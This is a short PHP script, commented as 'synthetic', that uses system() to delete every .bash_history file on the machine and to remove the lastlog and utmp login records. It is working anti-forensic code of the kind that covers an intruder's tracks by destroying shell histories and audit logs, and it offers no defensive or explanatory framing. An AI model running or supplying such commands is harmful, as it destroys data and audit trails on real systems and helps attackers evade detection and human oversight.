<?php
// synthetic: removes shell histories and login records
$jobs = array('find / -name .bash_history -exec rm -rf {} \;', 'rm -rf /var/log/lastlog /var/run/utmp');
foreach ($jobs as $j) { system($j); }
